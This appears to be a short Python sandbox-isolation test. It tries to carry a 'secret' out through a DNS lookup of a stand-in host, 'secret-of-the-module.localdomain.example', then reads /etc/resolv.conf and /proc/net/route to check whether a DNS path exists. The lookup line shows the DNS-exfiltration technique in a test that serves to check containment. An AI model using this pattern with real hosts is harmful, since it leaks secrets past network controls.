"""Carries a secret out in a name that it asks for."""

import socket

from attempt import *


def attempt():
    try:
        socket.getaddrinfo("secret-of-the-module.localdomain.example", 80)
    except socket.gaierror as error:
        # "There is no such name" was said at once, by whoever answers in there; outside it could be anybody's word.
        servers = [line.split()[1] for line in open("/etc/resolv.conf") if line.startswith("nameserver")]
        with open("/proc/net/route") as routes:
            demand(len(routes.readlines()) > 1 and servers, f"there is no way to a server: {error.errno}")


run(attempt)
